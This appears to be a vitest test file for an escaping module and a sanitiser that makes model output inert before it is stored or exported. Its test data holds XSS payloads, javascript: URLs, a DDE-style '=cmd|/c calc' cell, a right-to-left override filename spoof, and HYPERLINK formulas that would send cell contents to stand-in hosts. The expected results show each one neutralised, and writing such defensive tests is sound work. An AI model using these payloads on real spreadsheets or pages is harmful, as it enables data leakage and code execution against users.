// The export-escaping module and the model-text sanitiser: markup, formulas and bidirectional controls stay inert.
import { describe, expect, it } from 'vitest'
import { csvDocument, csvLine, escapeHtml, safeCell } from '../../src/text/escape'
import { inertText } from '../../src/text/untrusted'

describe('escapeHtml', () => {
  it('escapes markup and attribute breakers', () => {
    expect(escapeHtml('<script>alert(1)</script>')).toBe('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(escapeHtml('<img src=x onerror="alert(1)">')).toBe('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;')
    expect(escapeHtml("a'b`c&d")).toBe('a&#39;b&#96;c&amp;d')
    expect(escapeHtml(null)).toBe('')
    expect(escapeHtml(42)).toBe('42')
  })
})

describe('spreadsheet cells', () => {
  it('neutralises text that would start a formula, and only that', () => {
    for (const s of ['=HYPERLINK("http://x.example/?q="&A1,"点我")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1']) {
      expect(safeCell(s)).toBe(`'${s}`)
    }
    expect(safeCell('锂电池 = 好')).toBe('锂电池 = 好')
    expect(safeCell(-5)).toBe(-5) // a number is data, not a formula
    expect(safeCell({ a: '=1' })).toBe('{"a":"=1"}')
    expect(safeCell(undefined)).toBeNull()
  })

  it('quotes CSV fields and writes a BOM + CRLF document', () => {
    expect(csvLine([1, 'a,b', 'say "hi"', '=cmd|/c calc', null])).toBe('1,"a,b","say ""hi""",\'=cmd|/c calc,')
    expect(csvDocument(['h'], [['x\ny']])).toBe('\ufeffh\r\n"x\ny"\r\n')
  })
})

describe('inertText (model output at ingestion)', () => {
  it('strips tags, script schemes, bidi controls, control characters and lone surrogates, and clips', () => {
    expect(inertText('<script>alert(1)</script>相关', 200)).toBe('alert(1) 相关')
    expect(inertText('好<img src=x onerror=alert(1)>的', 200)).toBe('好 的')
    expect(inertText('见 javascript:alert(1) 与 JaVa Script :x', 200)).toBe('见 alert(1) 与 x')
    expect(inertText('=HYPERLINK("http://evil.example","点击")', 200)).toBe('HYPERLINK("http://evil.example","点击")')
    expect(inertText('abc\u202Efdp.exe\u2066x\u200f', 200)).toBe('abcfdp.exex')
    expect(inertText('a\u0000b\u0007c\nd\u0085e\ud800f', 200)).toBe('a b c d ef')
    expect(inertText('温度<50℃ 且 >20℃', 200)).toBe('温度<50℃ 且 >20℃') // a lone angle bracket is content
    expect(inertText('😀'.repeat(300), 200)).toBe('😀'.repeat(200)) // clipped by code points, never mid-pair
  })

  it('bounds its work on huge input', () => {
    expect(inertText(' '.repeat(5_000_000) + 'x', 200)).toBe('')
    expect(inertText('<'.repeat(1_000_000), 10)).toBe('<'.repeat(10))
  })
})
